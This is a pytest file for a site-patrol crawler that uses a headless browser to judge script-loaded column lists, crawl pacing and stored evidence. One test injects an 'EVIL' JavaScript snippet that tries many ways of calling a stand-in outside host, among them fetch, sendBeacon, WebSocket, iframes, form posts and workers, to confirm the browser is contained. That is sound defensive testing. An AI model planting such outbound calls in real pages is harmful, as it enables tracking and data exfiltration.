"""The extra on a single-page site: what it reads, what it refuses to say, what it never asks for."""

from __future__ import annotations

import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import datetime
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from warcio.archiveiterator import ArchiveIterator

from crawler.browser import Chromium
from demo.answer import Answer, redirect
from ledger import pictures, reading
from ledger.evidence import read_stored
from tests.browser import spa
from tests.patrol.little import HOST, NEXT, NIGHT, Asked, Little, environment, exported, faults, patrol, reader, unseen

pytestmark = pytest.mark.browser

NEWEST = {"gzdt": datetime(2026, 11, 20), "tzgg": datetime(2026, 1, 5)}
LISTS = ("column-stale", "column-empty", "column-broken", "home-stale", "date-missing", "link-broken")


@pytest.fixture(autouse=True)
def pictures_where_asked(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pictures are taken only in the tests that are about them."""
    monkeypatch.setenv("XUNCHA_PICTURES", "on" if "picture" in request.node.name else "off")


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Little]:
    with Little(tmp_path, spa.pages(NEWEST)) as here:
        yield here


def columns(folder: Path) -> dict[str, dict[str, Any]]:
    return {one["name"]: one for one in exported(folder, "columns")}


def again(folder: Path) -> Path:
    """The district pages once more, from the ledger."""
    command = [sys.executable, "-m", "xuncha.cli", "report", "district", "--as-of", NIGHT, "--out", "again"]
    done = subprocess.run(
        command, cwd=folder, env=environment(), capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    return folder / "again"


def pages_of(out: Path) -> dict[str, bytes]:
    return {str(path.relative_to(out)): path.read_bytes() for path in out.rglob("*.html") if path.name != "daily.html"}


def test_lists_that_a_script_loads_are_read_and_judged(site: Little, chromium: Chromium) -> None:
    done = site.patrol()
    assert done.returncode == 0, done.stderr
    found = columns(site.folder)
    assert {name: (one["items"], one["newest"]) for name, one in found.items()} == {
        "工作动态": (3, "2026-11-20"), "通知公告": (3, "2026-01-05"), "招考信息": (0, None), "统计数据": (0, None),
    }  # fmt: skip
    assert faults(site.folder, *LISTS) == [
        ("column-empty", "confirmed", "/kong/", ""),
        ("column-stale", "confirmed", "/tzgg/", ""),
    ]
    assert unseen(site.folder, "column-empty") == {"/cuo/": "js_required"}
    entries = exported(site.folder, "entries")
    assert {one["title"] for one in entries} == {
        row["title"] for name, day in NEWEST.items() for row in spa.rows_of(name, day)
    }


def test_all_that_the_browser_asked_is_counted(site: Little, chromium: Chromium) -> None:
    site.patrol()
    with reader(site.folder) as book:
        assert reading.site_runs(book, 1)[0].requests == len(site.asked(HOST))
    assert site.count("/assets/app.5b02c1.js") == 1, "scripts are asked for once a night"


def test_without_the_browser_nothing_is_said_of_them(site: Little, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XUNCHA_BROWSER", "off")
    site.write(site="    columns:\n      - {name: 工作动态, url: /gzdt/}\n      - {name: 招考信息, url: /kong/}\n")
    assert site.patrol().returncode == 0
    assert faults(site.folder, *LISTS) == []
    assert unseen(site.folder, "column-empty") == {"/gzdt/": "js_required", "/kong/": "js_required"}
    assert unseen(site.folder, "home-stale") == {"/": "js_required"}


def test_a_list_that_was_drawn_once_and_is_not_now_was_not_seen(site: Little, chromium: Chromium) -> None:
    site.patrol()
    site.pages["/gw/gzdt"] = spa.answer("{}", "application/json", 500)
    assert site.patrol(NEXT).returncode == 0
    assert unseen(site.folder, "column-stale")["/gzdt/"] == "js_required"
    assert ("column-stale", "confirmed", "/tzgg/", "") in faults(site.folder, "column-stale")


def test_articles_that_a_script_draws_keep_the_dates_of_their_rows(site: Little, chromium: Chromium) -> None:
    site.pages |= {row["url"]: spa.SHELL for name, day in NEWEST.items() for row in spa.rows_of(name, day)}
    site.patrol()
    assert faults(site.folder, "date-missing", "link-broken", "column-stale") == [
        ("column-stale", "confirmed", "/tzgg/", "")
    ]
    assert columns(site.folder)["工作动态"]["newest"] == "2026-11-20"


def test_a_pause_is_kept_between_all_requests(site: Little, chromium: Chromium) -> None:
    site.write(crawl="delay: 0.3", site="    columns:\n      - {name: 工作动态, url: /gzdt/}\n")
    site.patrol("2026-11-23T02:00:00+08:00", limit=120)
    times = [one.at for one in site.asked(HOST)]
    gaps = [later - before for before, later in pairwise(times)]
    assert len(gaps) > 10 and min(gaps) >= 0.25


def test_the_budget_of_a_night_holds_for_the_browser_too(site: Little, chromium: Chromium) -> None:
    site.write(crawl="max_pages: 8\n  delay: 0")
    assert site.patrol().returncode == 0
    assert len(site.asked(HOST)) <= 8


EVIL = """
fetch('http://other.example.cn/evil-fetch').catch(() => 0);
fetch('http://10.1.2.3/evil-private').catch(() => 0);
fetch('http://127.0.0.1:%(port)d/evil-loopback').catch(() => 0);
fetch('/hop').catch(() => 0);
fetch('/gw/gzdt', {method: 'DELETE'}).catch(() => 0);
new Image().src = 'http://other.example.cn/evil-image';
window.open('http://other.example.cn/evil-window');
window.open('/evil-own-window');
try { new WebSocket('ws://other.example.cn/evil-socket'); } catch (error) {}
const frame = document.createElement('iframe'); frame.src = 'http://other.example.cn/evil-frame'; document.body.append(frame);
const form = document.createElement('form'); form.action = 'http://other.example.cn/evil-form'; form.target = 'x'; document.body.append(form); form.submit();
navigator.sendBeacon('http://other.example.cn/evil-beacon', 'x');
const hint = document.createElement('link'); hint.rel = 'prefetch'; hint.href = 'http://other.example.cn/evil-prefetch'; document.head.append(hint);
const save = document.createElement('a'); save.href = '/assets/app.5b02c1.js'; save.download = 'evil.js'; document.body.append(save); save.click();
if (navigator.serviceWorker) navigator.serviceWorker.register('/evil-worker.js').catch(() => 0);
if (window.RTCPeerConnection || window.WebTransport) fetch('/evil-rtc').catch(() => 0);
const worker = new Worker(URL.createObjectURL(new Blob(["fetch('http://other.example.cn/evil-worker').catch(() => 0)"])));
"""


def test_a_page_reaches_nothing_but_its_own_site(tmp_path: Path, chromium: Chromium) -> None:
    with Little(tmp_path, {}) as here:
        here.pages = spa.pages(NEWEST, EVIL % {"port": here.served.port})
        here.pages["/hop"] = redirect("http://other.example.cn/evil-hop")
        # The names lead to this very server: what got past the watch would stand in its log.
        here.write(hosts=("other.example.cn",), site="    columns:\n      - {name: 工作动态, url: /gzdt/}\n")
        done = here.patrol(limit=120)
        assert done.returncode == 0, done.stderr
        assert here.count("/gw/gzdt") >= 2 and here.count("/hop") >= 1, "the script ran"
        assert [one.target for one in here.served.log if "evil" in one.target] == []
        assert {one.host for one in here.served.log} <= {HOST}
        assert {one.method for one in here.served.log} <= {"GET", "POST"}
        assert all("xuncha" in one.agent for one in here.served.log)
        assert faults(here.folder, *LISTS) == []


def test_other_hosts_that_the_register_names_may_be_asked(tmp_path: Path, chromium: Chromium) -> None:
    pages = spa.pages(NEWEST)
    app = pages["/assets/app.5b02c1.js"]
    assert isinstance(app, Answer)
    body = app.body.decode().replace("fetch('/gw/'", "fetch('http://api.example.cn/gw/'")
    pages["/assets/app.5b02c1.js"] = spa.answer(body, "application/javascript")
    asked = pages["/gw/gzdt"]
    assert callable(asked)

    def open_to_all(one: Asked) -> Answer:
        answer = asked(one)
        assert isinstance(answer, Answer)
        allowed = (("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Headers", "*"))
        return Answer(200, (*answer.headers, *allowed), answer.body)

    pages["api.example.cn/gw/gzdt"] = open_to_all
    with Little(tmp_path, pages) as here:
        lines = "    columns:\n      - {name: 工作动态, url: /gzdt/}\n"
        here.write(hosts=("api.example.cn",), site=lines)
        here.patrol(NIGHT)
        assert unseen(here.folder, "column-empty")["/gzdt/"] == "js_required"
        here.write(hosts=("api.example.cn",), site=f"    also: [api.example.cn]\n{lines}")
        here.patrol(NEXT)
        assert columns(here.folder)["工作动态"]["items"] == 3


def test_what_was_drawn_is_kept_beside_what_was_sent(site: Little, chromium: Chromium) -> None:
    site.patrol()
    kinds: dict[str, list[str]] = {}
    for path in sorted((site.folder / "xuncha.evidence").glob("*.warc.gz")):
        with path.open("rb") as file:
            for record in ArchiveIterator(file):
                url = record.rec_headers.get_header("WARC-Target-URI") or ""
                kinds.setdefault(url.removeprefix(f"http://{HOST}"), []).append(record.rec_type)
    assert kinds["/gzdt/"] == kinds["/tzgg/"] == ["conversion"]
    assert "response" in kinds["/"], "the shell is the same for all addresses, and kept once"
    with reader(site.folder) as book:
        _, body = pictures.requests(book, "little", [f"http://{HOST}/tzgg/"], 1)[f"http://{HOST}/tzgg/"]
        stored = read_stored(book.evidence, reading.snapshot(book, body))  # type: ignore[arg-type]
    assert stored is not None and "关于通知公告第1号事项" in stored.body.decode()
    assert stored.status == "" and stored.stored_at.isoformat() == NIGHT


def test_the_picture_of_a_new_fault_is_on_its_evidence_page(site: Little, chromium: Chromium) -> None:
    done = patrol(site.folder, NIGHT, report=True, limit=180)
    assert done.returncode == 0, done.stderr
    fault = next(one for one in exported(site.folder, "findings") if one["check"] == "column-stale")
    page = (site.folder / "reports" / "findings" / f"{fault['id']}.html").read_text("utf-8")
    [name] = re.findall(r'<img src="\.\./(evidence/[0-9a-f]+-\d+\.jpg)"', page)
    picture = (site.folder / "reports" / name).read_bytes()
    assert picture.startswith(b"\xff\xd8\xff") and 3_000 < len(picture) <= 300 * 1024
    with reader(site.folder) as book:
        shown = Path(name).name.rpartition("-")[0]
        taken = reading.snapshot(book, pictures.name_of(book, shown) or "")
        stored = read_stored(book.evidence, taken) if taken else None
    assert stored is not None and stored.body == picture and stored.stored_at.isoformat() == NIGHT
    assert pages_of(site.folder / "reports") == pages_of(again(site.folder)), "the same ledger gives the same pages"
    before = len(site.served.log)
    second = patrol(site.folder, NEXT, report=True, limit=180)
    assert second.returncode == 0
    late = [one for one in site.served.log[before:] if one.target == "/assets/app.5b02c1.js"]
    assert len(late) == 1, "what stood the night before is not pictured again"


def test_reports_without_the_pictures_files_are_whole(site: Little, chromium: Chromium) -> None:
    patrol(site.folder, NIGHT, report=True, limit=180)
    for path in (site.folder / "xuncha.evidence").glob("*-pictures-*.warc.gz"):
        path.unlink()
    out = again(site.folder)
    assert list(out.glob("findings/*.html")) and not list(out.glob("evidence/*.jpg"))
